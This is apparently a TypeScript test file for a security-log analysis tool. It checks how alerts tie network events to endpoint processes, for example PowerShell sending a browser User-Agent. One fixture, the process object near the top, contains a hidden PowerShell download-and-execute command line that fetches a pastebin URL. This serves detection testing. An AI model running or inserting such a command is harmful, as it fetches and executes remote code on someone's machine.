/**
 * The process on the page (issue 21, point 4): how an alert and an evidence
 * event speak of the process endpoint data named (src/ui/processText.ts,
 * src/ui/evidenceRecord.ts, src/ui/why.ts), what the worker hands the page
 * of it (src/worker/views.ts), the host view's processes
 * (src/worker/hostProcesses.ts), the search, and the stitchSeconds setting.
 */
import { describe, expect, it } from 'vitest';
import type { Alert, EvidenceEvent } from '../../src/core/alerts/alert';
import type { ProcessInfo } from '../../src/core/events/endpoint';
import { alertOf as stitchedAlert, CHROME_120, evidenceEvent as evidence, POWERSHELL } from '../helpers/stitched';
import { defaultSettings, resolveSettings } from '../../src/core/settings/settings';
import { evidenceRecord } from '../../src/ui/evidenceRecord';
import { alertClaim, claimedBrowser, clientTitle, imageFileName, processRecord, rowClaim } from '../../src/ui/processText';
import { settingChangeText } from '../../src/ui/messages';
import { needsReread } from '../../src/ui/settingsChange';
import { processInWords } from '../../src/ui/why';
import { searchAlerts } from '../../src/worker/alertSearch';
import { HostProcesses, ProcessBook } from '../../src/worker/hostProcesses';
import type { EvidenceRow } from '../../src/worker/api';
import { alertDetail, alertSummary } from '../../src/worker/views';

const process: ProcessInfo = {
  computer: 'WS-0042',
  image: POWERSHELL,
  pid: 4242,
  user: null,
  commandLine: 'powershell.exe -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString(\'https://pastebin.com/raw/x\')"',
  parentImage: 'C:\\Windows\\explorer.exe',
};

/** The helper's alert, with its client given first as these tests write it. */
function alertOf(events: EvidenceEvent[], client = 'powershell.exe'): Alert {
  return stitchedAlert(events, { client });
}

const ctx = { formats: new Map([['url.log', 'panos-syslog' as const]]), isTextShare: () => true, uploadMinBytes: 1024 };

describe('the browser a User-Agent claims', () => {
  it.each([
    [CHROME_120, 'Chrome 120'],
    [
      'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/121.0.0.0 Safari/537.36 Edg/121.0.2277.83',
      'Edge 121',
    ],
    ['Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:121.0) Gecko/20100101 Firefox/121.0', 'Firefox 121'],
    [
      'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36 OPR/106.0.0.0',
      'Opera 106',
    ],
    [
      'Mozilla/5.0 (Macintosh; Intel Mac OS X 14_2) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.2 Safari/605.1.15',
      'Safari 17',
    ],
    ['Mozilla/5.0 (Windows NT 10.0; WOW64; Trident/7.0; rv:11.0) like Gecko', 'Internet Explorer 11'],
    ['Mozilla/5.0 (compatible)', null],
  ])('%s claims %s', (ua, browser) => {
    expect(claimedBrowser(ua)).toBe(browser);
  });
});

describe('an alert whose events were stitched', () => {
  const stitched = alertOf([
    evidence({ process, uaClaimsBrowser: true }),
    evidence({ time: Date.UTC(2026, 9, 20, 13, 5), process, uaClaimsBrowser: true }),
  ]);
  const summary = alertSummary(stitched, 0);

  it('hands the page the image and the User-Agent that claimed a browser, and says the finding plainly', () => {
    expect(summary.image).toBe(POWERSHELL);
    expect(summary.claimedUserAgent).toBe(CHROME_120);
    expect(alertClaim(summary)).toBe("sent a browser's User-Agent (Chrome 120): the program is powershell.exe");
    const row = { lead: summary, members: [summary] };
    expect(rowClaim(row)).toBe("Sent a browser's User-Agent (Chrome 120): the program is powershell.exe");
    expect(clientTitle(row)).toBe(
      `powershell.exe: process image ${POWERSHELL}. Sent a browser's User-Agent (Chrome 120): the program is powershell.exe`,
    );
    expect(processInWords(summary)).toMatch(
      /^The client is the process image powershell\.exe, from endpoint data .+ Its User-Agent claims Chrome 120: by the User-Agent alone/,
    );
  });

  it('names the program without a finding where the User-Agent did not claim a browser', () => {
    const plain = alertSummary(alertOf([evidence({ process, userAgent: '' })]), 0);
    expect(plain.image).toBe(POWERSHELL);
    expect(plain.claimedUserAgent).toBeNull();
    expect(alertClaim(plain)).toBeNull();
    expect(rowClaim({ lead: plain, members: [plain] })).toBeNull();
    expect(processInWords(plain)).toMatch(/^The client is the process image powershell\.exe, from endpoint data/);
    expect(processInWords(plain)).not.toMatch(/claims/);
  });

  it('says nothing of a process for an alert of URL logs alone', () => {
    const urlOnly = alertSummary(alertOf([evidence({ userAgent: 'curl/8.4.0' })], 'curl'), 0);
    expect(urlOnly.image).toBeNull();
    expect(urlOnly.claimedUserAgent).toBeNull();
    expect(processInWords(urlOnly)).toBeNull();
    expect(clientTitle({ lead: urlOnly, members: [urlOnly] })).toBe('curl');
  });

  it('shows the evidence record with the computer, PID, user, command line and parent, unknown fields as unknown', () => {
    const detail = alertDetail(stitched, 0, ctx);
    const rec = new Map(evidenceRecord(detail.evidence[0], detail.alert));
    expect(rec.get('Process')).toBe('powershell.exe');
    expect(rec.get('Image')).toBe(POWERSHELL);
    expect(rec.get('Computer')).toBe('WS-0042');
    expect(rec.get('PID')).toBe('4242');
    expect(rec.get('Process user')).toBe('unknown');
    expect(rec.get('Command line')).toBe(process.commandLine);
    expect(rec.get('Parent image')).toBe('C:\\Windows\\explorer.exe');
    expect(rec.get('User-Agent claims a browser')).toBe(
      "yes: sent a browser's User-Agent (Chrome 120): the program is powershell.exe",
    );
    const none = processRecord({
      process: { ...process, pid: null, commandLine: null, parentImage: null, computer: '' },
      uaClaimsBrowser: false,
      userAgent: '',
    });
    expect(none.filter(([, v]) => v === 'unknown').map(([k]) => k)).toEqual([
      'Computer',
      'PID',
      'Process user',
      'Command line',
      'Parent image',
    ]);
    for (const [, v] of none) expect(v).not.toMatch(/null|undefined/);
  });

  it("names an event taken from an EVTX file by its record number and the file's format", () => {
    const detail = alertDetail(alertOf([evidence({ process, userAgent: '', source: { file: 'sysmon.evtx', line: 812 } })]), 0, {
      ...ctx,
      // FormatId gains 'evtx' with the EVTX reader (issue 21's evtx branch).
      formats: new Map([['sysmon.evtx', 'evtx' as EvidenceRow['format']]]),
    });
    const rec = new Map(evidenceRecord(detail.evidence[0], detail.alert));
    expect(rec.get('Source')).toBe('sysmon.evtx, record 812 (Windows event log (EVTX))');
  });

  it('says an event with no endpoint data has no known process', () => {
    const detail = alertDetail(alertOf([evidence({ userAgent: 'curl/8.4.0' })], 'curl'), 0, ctx);
    const rec = new Map(evidenceRecord(detail.evidence[0], detail.alert));
    expect(rec.get('Process')).toBe('not known (no endpoint data was joined to this event)');
    expect(rec.has('Command line')).toBe(false);
  });

  it('is found by its image and its command line in the search', () => {
    const alerts = [alertOf([evidence({ userAgent: 'curl/8.4.0' })], 'curl'), stitched];
    expect(searchAlerts(alerts, 'powershell.exe')).toEqual([1]);
    expect(searchAlerts(alerts, 'DownloadString hidden')).toEqual([1]);
  });
});

describe('imageFileName', () => {
  it('takes the file name after the last slash of either kind, as logged', () => {
    expect(imageFileName(POWERSHELL)).toBe('powershell.exe');
    expect(imageFileName('/usr/bin/curl')).toBe('curl');
    expect(imageFileName('PowerShell.EXE')).toBe('PowerShell.EXE');
  });
});

describe("the host view's processes", () => {
  it('lists each image once whatever its case, with its events, domains (most events first), computers and first and last times', () => {
    const h = new HostProcesses();
    const t = Date.UTC(2026, 9, 20);
    h.add(process, 'pastebin.com', t + 5000);
    h.add({ ...process, image: POWERSHELL.toUpperCase() }, 'github.com', t + 1000);
    h.add(process, 'github.com', t + 9000);
    h.add(null, 'example.com', t);
    h.add({ ...process, image: 'C:\\Tools\\curl.exe', computer: 'WS-0043' }, 'example.com', t + 2000);
    const list = h.list();
    expect(list).toEqual([
      {
        image: POWERSHELL,
        computers: ['WS-0042'],
        events: 3,
        domains: ['github.com', 'pastebin.com'],
        otherDomains: 0,
        domainsCut: false,
        first: t + 1000,
        last: t + 9000,
      },
      {
        image: 'C:\\Tools\\curl.exe',
        computers: ['WS-0043'],
        events: 1,
        domains: ['example.com'],
        otherDomains: 0,
        domainsCut: false,
        first: t + 2000,
        last: t + 2000,
      },
    ]);
    expect(h.otherEvents).toBe(0);
  });

  it('names 20 domains and counts the rest', () => {
    const h = new HostProcesses();
    for (let i = 0; i < 25; i++) h.add(process, `d${String(i).padStart(2, '0')}.example`, i);
    const [p] = h.list();
    expect(p.domains).toHaveLength(20);
    expect(p.otherDomains).toBe(5);
    expect(p.events).toBe(25);
  });
});

describe("the analysis's book of every host's processes", () => {
  it('keeps each host apart, passes over events without a process, and says when a host was past its budget', () => {
    const book = new ProcessBook();
    book.add({ host: '10.1.2.3', domain: 'pastebin.com', time: 5, process });
    book.add({ host: '10.1.2.3', domain: 'github.com', time: 9, process });
    book.add({ host: '10.1.2.4', domain: 'example.com', time: 7, process: null });
    expect(book.of('10.1.2.3')?.processes.map((p) => [p.image, p.events, p.domains])).toEqual([
      [POWERSHELL, 2, ['github.com', 'pastebin.com']],
    ]);
    expect(book.of('10.1.2.4')).toEqual({ processes: [], otherEvents: 0 });
    for (let i = 0; i < 50_000; i++) book.add({ host: `h${i}`, domain: 'd.example', time: i, process });
    expect(book.of('h49998')?.processes).toHaveLength(1);
    expect(book.of('h49999')).toBeNull();
    expect(book.of('never-seen')).toEqual({ processes: [], otherEvents: 0 });
  });
});

describe('stitchSeconds', () => {
  it('defaults to 120, takes 1 to 3600 seconds, and refuses the rest saying why', () => {
    expect(defaultSettings().stitchSeconds).toBe(120);
    expect(resolveSettings({ stitchSeconds: 1 }).stitchSeconds).toBe(1);
    expect(resolveSettings({ stitchSeconds: 3600 }).stitchSeconds).toBe(3600);
    expect(() => resolveSettings({ stitchSeconds: 0 })).toThrow(
      /"stitchSeconds" must be from 1 to 3600 seconds \(.+ports are reused\); got 0/,
    );
    expect(resolveSettings({ stitchSeconds: 1.5 }).stitchSeconds).toBe(1.5);
    expect(() => resolveSettings({ stitchSeconds: '120' })).toThrow(/"stitchSeconds" must be a number/);
  });

  it('applies at detection (the tab stitches at every detection: nothing is read again), and the banner names it', () => {
    const a = defaultSettings();
    expect(needsReread(a, { ...a, stitchSeconds: 30 })).toBe(false);
    expect(settingChangeText('stitchSeconds', { ...a, stitchSeconds: 30 })).toBe('stitching window 30 seconds (default 120)');
  });
});
